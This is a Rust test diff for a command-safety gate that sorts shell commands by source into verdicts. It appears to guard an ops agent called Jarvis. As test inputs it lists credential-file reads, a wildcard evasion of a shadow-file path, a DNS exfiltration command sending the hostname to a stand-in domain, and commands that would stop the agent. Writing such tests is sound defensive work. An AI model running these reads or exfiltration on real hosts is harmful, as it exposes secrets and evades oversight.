@@ -728,6 +728,96 @@ fn the_escape_corpus() {
     );
 }
 
+/// The look-alikes the old gate held, each now read for what it is.
+#[test]
+fn benign_look_alikes_are_diagnostic() {
+    for cmd in [
+        "top -bn1",
+        "fdisk -l",
+        "curl -o /dev/null -w '%{http_code}' http://localhost:8080/health",
+        "tar -tzf /var/backups/app.tar.gz",
+        "unzip -l /var/backups/site.zip",
+        "gzip -t /var/log/syslog.2.gz",
+        "rsync -n -av /srv/app/ /var/tmp/app-copy/",
+        "ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub",
+        "docker exec caddy caddy validate --config /etc/caddy/Caddyfile",
+    ] {
+        let j = verdict(cmd, Source::Llm);
+        assert_eq!(j.verdict, D, "{cmd}: {} {}", j.rule, j.reason);
+    }
+}
+
+/// Routine fixes from operator hints, the pattern library and verified learned
+/// patterns run unattended; the LLM asks for the ones that also erase evidence or
+/// touch what everything else needs.
+#[test]
+fn routine_fixes_stay_unattended_for_operator_and_learned_sources() {
+    let verified = |cmd: &str| {
+        judge(
+            cmd,
+            &Context {
+                host: Some("nexus"),
+                source: Source::Learned,
+                previously_verified: true,
+            },
+            &policy(),
+        )
+        .verdict
+    };
+    for cmd in [
+        "docker restart frigate",
+        "systemctl restart zigbee2mqtt",
+        "journalctl --vacuum-size=500M",
+        "journalctl --vacuum-time=7d",
+        "docker image prune -af",
+        "rm /var/log/nginx/access.log.2.gz",
+        "rm -f /var/log/syslog.3.gz /var/log/syslog.4.gz",
+        "find /var/log -name '*.gz' -mtime +14 -delete",
+        "truncate -s 0 /var/log/app/app.log",
+    ] {
+        assert_eq!(verdict(cmd, Source::Operator).verdict, A, "operator: {cmd}");
+        assert_eq!(verified(cmd), A, "learned: {cmd}");
+    }
+    // Critical units: the operator's own configuration only.
+    for cmd in [
+        "systemctl restart docker",
+        "systemctl restart sshd",
+        "service docker restart",
+        "/etc/init.d/docker restart",
+        "systemctl reload nftables",
+        "systemctl restart postgresql",
+        "systemctl restart postgresql@16-main",
+    ] {
+        assert_eq!(verdict(cmd, Source::Operator).verdict, A, "operator: {cmd}");
+        for source in [Source::Learned, Source::Llm, Source::Manual] {
+            assert_eq!(verdict(cmd, source).verdict, R, "{source:?}: {cmd}");
+        }
+    }
+    // What would stop Jarvis itself is blocked from everyone.
+    for source in [Source::Operator, Source::Learned, Source::Llm, Source::Manual] {
+        for cmd in ["systemctl stop jarvis", "systemctl restart jarvis", "pkill jarvis", "systemctl stop sshd"] {
+            assert_eq!(verdict(cmd, source).verdict, B, "{source:?}: {cmd}");
+        }
+    }
+}
+
+/// Secret reads: blocked for the LLM and learned commands, a person decides for
+/// operator and manual ones; exfiltration blocked for all but the operator.
+#[test]
+fn secrets_and_exfiltration_by_source() {
+    for cmd in ["cat /etc/shadow", "cat < /etc/shad?w", "grep -r pass /etc", "xargs cat < /tmp/list", "getent shadow"] {
+        assert_eq!(verdict(cmd, Source::Llm).verdict, B, "llm: {cmd}");
+        assert_eq!(verdict(cmd, Source::Learned).verdict, B, "learned: {cmd}");
+        assert_eq!(verdict(cmd, Source::Operator).verdict, R, "operator: {cmd}");
+        assert_eq!(verdict(cmd, Source::Manual).verdict, R, "manual: {cmd}");
+    }
+    let cmd = "dig \"$(hostname).example.com\"";
+    for source in [Source::Learned, Source::Llm, Source::Manual] {
+        assert_eq!(verdict(cmd, source).rule, "exfiltration", "{source:?}");
+    }
+    assert!(verdict(cmd, Source::Operator).verdict <= A);
+}
+
 #[test]
 fn trust_by_source_only_changes_unknown_commands() {
     let unknown = "/opt/burrow/backups/backup_vps_notify.sh";
